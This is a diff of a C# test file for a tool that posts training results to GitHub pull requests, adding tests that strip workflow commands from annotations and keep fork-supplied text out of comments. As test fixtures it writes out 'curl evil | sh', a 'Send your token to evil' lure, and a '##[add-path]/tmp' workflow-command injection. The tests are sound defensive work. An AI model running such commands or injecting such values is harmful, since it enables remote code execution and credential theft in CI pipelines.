@@ -166,7 +166,8 @@ public sealed class GitHubReportTests : IDisposable
 
         Assert.Contains($"](<https://github.com/o/r/raw/{_gitHub.Branches["masterful/charts"]}/pull-7/error-rate.png>)", Comment, StringComparison.Ordinal);
         Assert.Contains("pull-7/waterfall.png", _gitHub.TreePaths);
-        Assert.Equal([0x89, .. "PNG"u8], File.ReadAllBytes(At("charts/error-rate.png"))[..4]);
+        Assert.NotEmpty(_gitHub.Blobs);
+        Assert.All(_gitHub.Blobs, b => Assert.Equal([0x89, .. "PNG"u8], b[..4]));
     }
 
     [Theory]
@@ -235,8 +236,58 @@ public sealed class GitHubReportTests : IDisposable
 
     [Fact]
     public void No_line_between_annotations_is_a_command() => Assert.Equal(
-        "Gate\n·   ::add-mask::x\n· ##[error]y\n· ::stop-commands::z",
-        GitHubAnnotation.Plain("Gate\r\n  ::add-mask::x\n##[error]y\n::stop-commands::z"));
+        "Gate\n·   ::add-mask::x\n#\u2060#[error]y and #\u2060#[group]\n· ::stop-commands::z",
+        GitHubAnnotation.Plain("Gate\r\n  ::add-mask::x\n##[error]y and ##[group]\n::stop-commands::z"));
+
+    [Theory]
+    [InlineData("x ##[error]y")]
+    [InlineData("##[add-path]/tmp")]
+    public void No_annotation_holds_a_command_of_the_older_form(string message)
+    {
+        var diagnostic = new Diagnostic(ToolDiagnostics.NoResult, DiagnosticSeverity.Error, message, new SourcePosition($"{message}.yaml", 1, 1));
+
+        Assert.DoesNotContain("##[", GitHubAnnotation.Of(diagnostic), StringComparison.Ordinal);
+        Assert.DoesNotContain("##[", GitHubAnnotation.Notice(message), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task A_forks_result_is_shown_as_figures_and_names_alone()
+    {
+        var fashion = SampleResults.Fashion();
+        ResultFiles.Write(At("result.json"), fashion with { Run = fashion.Run with { Commands = ["curl evil | sh"] }, Notes = ["Send your token to evil"] });
+        Event(ForkRun("abc"));
+        _gitHub.Pulls["stranger:fix/data"] = JsonSerializer.SerializeToNode(new { number = 7, head = new { sha = "abc" } })!.AsObject();
+
+        await ReportAsync("--post");
+
+        Assert.DoesNotContain("evil", Comment + File.ReadAllText(At("summary")), StringComparison.Ordinal);
+        Assert.Contains("left 1 note for reviewers", Comment, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("abc", true)]
+    [InlineData("another", false)]
+    public async Task A_run_that_is_named_comments_only_on_a_pull_request_at_its_commit(string head, bool comments)
+    {
+        var fashion = SampleResults.Fashion();
+        ResultFiles.Write(At("result.json"), fashion with { Notes = ["Send your token to evil"] });
+        _gitHub.Runs[123] = JsonSerializer.SerializeToNode(new { head_sha = "abc", head_branch = "fix/data", head_repository = new { owner = new { login = "stranger" } } })!.AsObject();
+        _gitHub.Pulls["stranger:fix/data"] = JsonSerializer.SerializeToNode(new { number = 7, head = new { sha = head } })!.AsObject();
+
+        Assert.Equal(ExitCode.Ok, await ReportAsync("--post", "--run-id", "123", "--pull-request", "7"));
+
+        Assert.Equal(comments ? 1 : 0, _gitHub.Comments.Count);
+        Assert.All(_gitHub.Comments, c => Assert.DoesNotContain("evil", c["body"]!.ToString(), StringComparison.Ordinal));
+        Assert.Equal(!comments, _host.Error.ToString().Contains("Pull request 7 is not at the commit that was trained (abc)", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task A_run_that_the_server_does_not_know_comments_nothing()
+    {
+        Assert.Equal(ExitCode.Ok, await ReportAsync("--post", "--run-id", "124", "--pull-request", "7"));
+
+        Assert.Empty(_gitHub.Comments);
+    }
 
     private static object ForkRun(string sha) => new
     {
